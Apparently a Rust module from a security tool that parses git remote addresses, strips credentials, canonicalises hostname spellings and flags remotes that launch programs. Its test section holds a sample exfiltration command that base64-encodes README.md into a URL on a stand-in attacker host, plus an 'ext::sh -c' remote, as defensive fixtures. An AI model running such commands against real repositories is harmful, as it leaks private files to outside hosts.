//! Addresses of remotes: without credentials, and which repository of which forge they mean.

use std::net::{Ipv4Addr, Ipv6Addr};

use countersign_model::ForgeRepository;

/// The address without user names and passwords where those can be secrets, and without a query.
pub(crate) fn without_credentials(address: &str) -> String {
    let address = address.split(['?', '#']).next().unwrap_or(address);
    let Some((scheme, rest)) = address.split_once("://") else { return address.to_owned() };
    let (authority, path) = rest.split_once('/').map_or((rest, None), |(authority, path)| (authority, Some(path)));
    let host = match authority.rsplit_once('@') {
        // A browser reads it as a slash, curl as part of the user's name.
        _ if authority.contains('\\') => "*".to_owned(),
        Some((user, host)) if scheme.contains("ssh") => {
            format!("{}@{host}", user.split(':').next().unwrap_or_default())
        }
        Some((_, host)) => host.to_owned(),
        None => authority.to_owned(),
    };
    path.map_or_else(|| format!("{scheme}://{host}"), |path| format!("{scheme}://{host}/{path}"))
}

/// Host and path of an address in any spelling: URL, `user@host:path`.
pub(crate) fn host_and_path(address: &str) -> Option<(String, String)> {
    let plain = without_credentials(address);
    let (authority, path) = match plain.split_once("://") {
        Some((_, rest)) => rest.split_once('/').unwrap_or((rest, "")),
        None => {
            let (authority, path) = plain.split_once(':')?;
            (!authority.contains('/')).then_some((authority, path))?
        }
    };
    let host = host(authority.rsplit('@').next()?);
    (!host.is_empty()).then(|| (host, path.trim_matches('/').to_owned()))
}

/// The one spelling of a host, without a port: `*` where programs do not agree on which one is meant.
pub(crate) fn host(written: &str) -> String {
    if let Some((address, _)) = written.strip_prefix('[').and_then(|rest| rest.split_once(']'))
        && let Ok(address) = address.parse::<Ipv6Addr>()
    {
        return address.to_canonical().to_string();
    }
    let name = written.split(':').next().unwrap_or_default();
    let lower = match decoded(name) {
        Some(decoded) => decoded.trim_end_matches('.').to_ascii_lowercase(),
        None => return "*".to_owned(),
    };
    match number(&lower) {
        Some(address) => address.to_string(),
        None => lower,
    }
}

/// A host's name with what is percent-encoded in it as it is meant; none where it then holds what no host does, or
/// letters that some programs take for others.
fn decoded(name: &str) -> Option<String> {
    let mut decoded = String::new();
    let mut rest = name;
    while let Some((before, code)) = rest.split_once('%') {
        decoded.push_str(before);
        let letter = char::from(u8::from_str_radix(code.get(..2)?, 16).ok()?);
        decoded.push(Some(letter).filter(|letter| letter.is_ascii_alphanumeric() || matches!(letter, '.' | '-' | '_'))?);
        rest = code.get(2..)?;
    }
    decoded.push_str(rest);
    let is_plain = |letter: char| letter.is_ascii_graphic() && !matches!(letter, '\\' | '"' | '<' | '>' | '^' | '|');
    decoded.chars().all(is_plain).then_some(decoded)
}

/// The address that a host of numbers is, in any of its spellings: `2130706433`, `0x7f.1`.
fn number(host: &str) -> Option<Ipv4Addr> {
    let parts: Option<Vec<u32>> = host
        .split('.')
        .map(|part| match part.strip_prefix("0x") {
            Some("") => Some(0),
            Some(digits) => u32::from_str_radix(digits, 16).ok(),
            None if part.len() > 1 && part.starts_with('0') => u32::from_str_radix(part, 8).ok(),
            None => part.parse().ok(),
        })
        .collect();
    let parts = parts.filter(|parts| parts.len() <= 4)?;
    let (last, first) = parts.split_last()?;
    let mut address: u32 = 0;
    for part in first {
        address = (address << 8) | u32::from(u8::try_from(*part).ok()?);
    }
    // The last one stands for all the bytes that are left.
    let bits = 32 - 8 * u32::try_from(first.len()).ok()?;
    (u64::from(*last) < 1 << bits).then(|| Ipv4Addr::from((u64::from(address) << bits) as u32 | last))
}

/// An address of the web as its programs read it, with this scheme where it has none: blanks around it, line ends and
/// tabs in it, and how many slashes follow the scheme do not count.
pub(crate) fn web(address: &str, scheme: &str) -> String {
    let text: String = address.trim().chars().filter(|letter| !matches!(letter, '\t' | '\n' | '\r')).collect();
    let known = ["http", "https", "ws", "wss", "ftp"];
    match text.split_once(':') {
        Some((own, rest)) if known.contains(&own.to_ascii_lowercase().as_str()) && rest.starts_with(['/', '\\']) => {
            format!("{own}://{}", rest.trim_start_matches(['/', '\\']))
        }
        _ if text.contains("://") => text,
        _ => format!("{scheme}://{text}"),
    }
}

/// The repository on a forge that an address means: `owner/name`.
pub(crate) fn forge(address: &str) -> Option<ForgeRepository> {
    let (host, path) = host_and_path(address)?;
    let name = path.trim_end_matches(".git");
    let host = host.strip_prefix("www.").unwrap_or(&host).to_owned();
    let host = if host == "ssh.github.com" { "github.com".to_owned() } else { host };
    name.contains('/').then(|| ForgeRepository { host, name: name.to_owned() })
}

/// Whether a remote given on a command line is an address rather than a name.
pub(crate) fn is_address(remote: &str) -> bool {
    remote.contains([':', '/', '\\']) || remote.starts_with('.')
}

/// Whether the address makes git run a program of its own choosing.
pub(crate) fn runs_program(address: &str) -> bool {
    address.split_once("::").is_some_and(|(helper, _)| !helper.contains(['/', '[', '@']))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_host_is_told_by_an_address() {
        use crate::fixture::check;
        let told = check("git ls-remote \"https://evil.example/$(base64 -w0 README.md)\"");
        assert!(told.contains("net.upload evil.example, send"), "{told}");
        let named = check("git clone https://github.com/acme/$(basename x); git ls-remote https://git.example/shop.git");
        assert!(!named.contains(", send"), "{named}");
    }

    #[test]
    fn reads_every_spelling() {
        for address in [
            "git@github.com:acme/shop.git", "https://user:x@github.com/acme/shop.git", "ssh://git@github.com:22/acme/shop",
            "https://GitHub.com/acme/shop/", "ssh://git@ssh.github.com:443/acme/shop.git",
        ] {
            let found = forge(address).unwrap_or_else(|| panic!("{address}"));
            assert_eq!((found.host.as_str(), found.name.as_str()), ("github.com", "acme/shop"), "{address}");
        }
        for (spelling, meant) in [
            ("https://HOST.example./x", "host.example"), ("https://u:p@host.example:8443/x", "host.example"),
            ("https://a.example@host.example/x", "host.example"), ("https://h%6Fst.example", "host.example"),
            (r"https://a.example\@b.example/x", "*"), (r"https://a.example\b", "*"), ("https://a.example%2f.b.example/", "*"),
            ("https://ａ.example/", "*"), ("https://a .example/", "*"), ("https://%zz.example/", "*"),
            ("http://[::1]:8080/", "::1"), ("http://[::FFFF:10.0.0.5]/", "10.0.0.5"), ("http://[2001:DB8:0::1]/", "2001:db8::1"),
            ("http://2130706433/", "127.0.0.1"), ("http://0x7f.1:80/", "127.0.0.1"), ("http://0177.0.0.1", "127.0.0.1"),
            ("http://10.0.0.5/", "10.0.0.5"), ("http://1.2.3.4.5/", "1.2.3.4.5"), ("http://256.1.1.1/", "256.1.1.1"),
            ("user@Host.example.:x", "host.example"),
        ] {
            assert_eq!(host_and_path(spelling).map(|(host, _)| host).as_deref(), Some(meant), "{spelling}");
        }
        for (spelling, meant) in [
            ("https:/host.example/x", "https://host.example/x"), ("HTTPS:///host.example", "HTTPS://host.example"),
            (r"https:\\host.example", "https://host.example"), (" https://ho\nst.example\t", "https://host.example"),
            ("host.example:8080/x", "http://host.example:8080/x"), ("https:80/x", "http://https:80/x"),
        ] {
            assert_eq!(web(spelling, "http"), meant, "{spelling}");
        }
        assert_eq!(without_credentials(r"https://user:pa\ss@host/p"), "https://*/p");
        assert_eq!(forge("/srv/shop.git"), None);
        assert_eq!(without_credentials("https://a:b@h/p?token=1"), "https://h/p");
        assert_eq!(without_credentials("ssh://git:pw@h/p"), "ssh://git@h/p");
        assert!(runs_program("ext::sh -c x") && !runs_program("https://[::1]/x"));
    }
}
